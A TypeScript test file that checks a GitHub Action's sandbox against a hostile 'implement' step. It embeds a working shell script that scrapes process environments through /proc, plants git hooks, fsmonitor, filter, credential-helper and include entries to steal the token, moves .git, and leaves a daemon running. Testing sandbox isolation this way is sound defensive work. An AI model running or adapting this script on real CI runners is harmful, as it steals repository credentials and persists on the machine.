import { execFileSync } from 'node:child_process';
import { chmodSync, existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { SAMPLE_CONFIG } from '../simulator/sample-repo.js';
import { TOKENS } from '../simulator/simulator.js';
import { startWorld, type World } from '../simulator/world.js';

// A hostile `implement`, run by the bundled Action as a runner runs it (INPUT_TOKEN in the
// step's environment), tries every way to the token it has: its ancestors' and every process's
// environment, its own environment, the runner's files, and git config, hooks, filters, includes
// and a swapped `.git` that the Action's own git would run later with the token; and it leaves a
// daemon watching every process. It finds nothing, and nothing it planted runs. The control run,
// with the sandbox off, shows that the same probe does find the token when it can.

vi.setConfig({ testTimeout: 180_000 });

const HOSTILE = `#!/bin/sh
drop="$HOSTILE_DROP"
{
  echo "uid $(id -u)"
  pid=$$
  while [ "$pid" -gt 1 ]; do
    tr '\\0' '\\n' < "/proc/$pid/environ" 2>/dev/null | sed "s/^/ancestor $pid: /"
    pid=$(awk '/^PPid:/ {print $2}' "/proc/$pid/status")
  done
  for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < "$f" 2>/dev/null; done
  env
  for f in "$RUNNER_TEMP"/* "$RUNNER_TEMP"/*/* "$RUNNER_TEMP/output" "$RUNNER_TEMP/summary.md" "$GITHUB_EVENT_PATH"; do
    [ -f "$f" ] || continue
    echo "file $f"; cat "$f" 2>/dev/null
    echo "HOSTILE=1" >> "$f" 2>/dev/null && echo "wrote $f"
  done
  cat .git/config 2>/dev/null
} > "$drop/found.txt" 2>&1
steal='env > "'"$drop"'/stolen-$$"; tr "\\0" "\\n" < /proc/$PPID/environ >> "'"$drop"'/stolen-$$" 2>/dev/null'
for hook in pre-commit post-commit pre-push reference-transaction post-index-change; do
  printf '#!/bin/sh\\n%s\\n' "$steal" > ".git/hooks/$hook" 2>/dev/null && chmod +x ".git/hooks/$hook" && echo "hook $hook" >> "$drop/planted"
done
git config core.fsmonitor "$steal" 2>/dev/null && echo fsmonitor >> "$drop/planted"
git config filter.evil.clean "$steal; cat" 2>/dev/null && echo filter >> "$drop/planted"
echo '*.mjs filter=evil' > .gitattributes
git config credential.helper "!$steal" 2>/dev/null && echo credential >> "$drop/planted"
printf '[core]\\n\\tfsmonitor = %s\\n' "$steal" > "$drop/include.cfg"
git config include.path "$drop/include.cfg" 2>/dev/null && echo include >> "$drop/planted"
mv .git .git-theirs 2>/dev/null && echo "moved .git" >> "$drop/planted"
setsid sh -c 'while :; do for f in /proc/[0-9]*/environ; do tr "\\0" "\\n" < "$f" 2>/dev/null; done >> "'"$drop"'/daemon"; sleep 0.05; done' </dev/null >/dev/null 2>&1 &
node scripts/implement.mjs
`;

const BODY = '## Stream A: Store\n- [ ] Task 1: Add the store\n';

let world: World | undefined;
let drop: string | undefined;
afterEach(async () => {
  await world?.close();
  world = undefined;
  if (drop) {
    // The control run's daemon is nobody's to sweep: end it by what its command line names.
    try {
      execFileSync('pkill', ['-KILL', '-f', drop], { stdio: 'ignore' });
    } catch {
      // None left: the sandbox had ended it.
    }
    rmSync(drop, { recursive: true, force: true });
  }
});

/** Every form of the Action's token a reader could use. */
function tokenForms(text: string): string[] {
  const token = TOKENS.action;
  const b64 = (s: string) => Buffer.from(s).toString('base64');
  return [token, b64(`x-access-token:${token}`).slice(0, 30), b64(token).slice(0, 16)].filter((f) => text.includes(f));
}

/**
 * A runner's user as on GitHub-hosted runners: not root, with passwordless sudo. Debian's sudo
 * is installed by .ci/run; without it, CI fails here rather than skipping the hosted path.
 */
function hostedRunnerUser(): { uid: number; gid: number } {
  const name = 'ec-test-runner';
  try {
    execFileSync('id', ['-u', name], { stdio: 'ignore' });
  } catch {
    execFileSync('useradd', ['--system', '--user-group', '--no-create-home', name], { stdio: 'ignore' });
  }
  writeFileSync(`/etc/sudoers.d/${name}`, `${name} ALL=(ALL) NOPASSWD:ALL\n`, { mode: 0o440 });
  const id = (flag: string) => Number(execFileSync('id', [flag, name], { encoding: 'utf8' }).trim());
  return { uid: id('-u'), gid: id('-g') };
}

const haveSudo = (() => {
  try {
    execFileSync('sudo', ['--version'], { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
})();

async function runHostile(sandbox: 'auto' | 'off', user?: { uid: number; gid: number }) {
  drop = mkdtempSync(join(tmpdir(), 'hostile-drop-'));
  chmodSync(drop, 0o1777);
  world = await startWorld({
    config: SAMPLE_CONFIG.replace('implement: node scripts/implement.mjs', 'implement: sh scripts/hostile.sh'),
    files: { 'scripts/hostile.sh': HOSTILE },
  });
  world.runner.env.HOSTILE_DROP = drop;
  world.runner.env.INPUT_SANDBOX = sandbox;
  world.runner.user = user;
  world.simulator.fake.addIssue(12, BODY, [], 'Store');
  await world.api('POST', '/repos/acme/chat/issues/12/labels', { labels: ['execute'] });
  await world.settle();
  // The daemon is gone by now (the sandbox ends the user's processes); give a stray one a moment.
  await new Promise((resolve) => setTimeout(resolve, 200));
  if (process.env.KEEP_DROP) execFileSync('cp', ['-r', drop, process.env.KEEP_DROP]);
  const files = Object.fromEntries(
    readdirSync(drop).map((name) => [name, readFileSync(join(drop as string, name), 'utf8')]),
  );
  return { files, world, drop };
}

describe('a hostile implement in the sandbox', () => {
  it('finds no token by any path, and nothing it planted runs', async () => {
    const { files, world: w } = await runHostile('auto');
    const found = files['found.txt'] ?? '';
    expect(found).toMatch(/^uid [1-9]\d*$/m); // not the Action's user
    expect(found).not.toMatch(/^wrote /m); // the runner's files are not its to write
    expect(found).not.toMatch(/^ancestor \d+: INPUT_/m); // no ancestor's environment was readable
    for (const [name, text] of Object.entries(files)) expect(tokenForms(text), name).toEqual([]);
    expect(Object.keys(files).filter((name) => name.startsWith('stolen-'))).toEqual([]);
    expect(files.planted ?? '').toBe(''); // no hook, config or include could be written, .git not moved
    // The work itself went through: committed by the Action, pushed, ticked.
    const { fake } = w.simulator;
    expect(fake.issue(12).body).toContain('- [x] Task 1');
    expect(w.runner.records[0]?.summary).not.toContain('HOSTILE');
  });

  it.skipIf(!haveSudo && !process.env.CI)(
    'does the same when the step runs as a user with passwordless sudo, as on GitHub-hosted runners',
    async () => {
      const runner = hostedRunnerUser();
      const { files, world: w } = await runHostile('auto', runner);
      const found = files['found.txt'] ?? '';
      const uid = Number(/^uid (\d+)$/m.exec(found)?.[1]);
      expect(uid).not.toBe(0);
      expect(uid).not.toBe(runner.uid); // not the runner's user either: a user of its own
      for (const [name, text] of Object.entries(files)) expect(tokenForms(text), name).toEqual([]);
      expect(Object.keys(files).filter((name) => name.startsWith('stolen-'))).toEqual([]);
      expect(files.planted ?? '').toBe('');
      if (!w.simulator.fake.issue(12).body.includes('- [x]'))
        console.log(w.runner.records.map((r) => r.output).join('\n'));
      expect(w.simulator.fake.issue(12).body).toContain('- [x] Task 1');
      // The step's folder is the runner user's again afterwards, `.git` included.
      const record = w.runner.records[0];
      expect(record?.exitCode).toBe(0);
    },
  );

  it('control: with the sandbox off, the same probe reads the token from an ancestor', async () => {
    const { files } = await runHostile('off');
    expect(files['found.txt']).toMatch(/^uid 0$/m);
    expect(tokenForms(files['found.txt'] ?? '')).toContain(TOKENS.action);
    // And its daemon is not stopped either: no sandbox user to sweep. End it here.
    expect(existsSync(join(drop as string, 'daemon'))).toBe(true);
  });
});
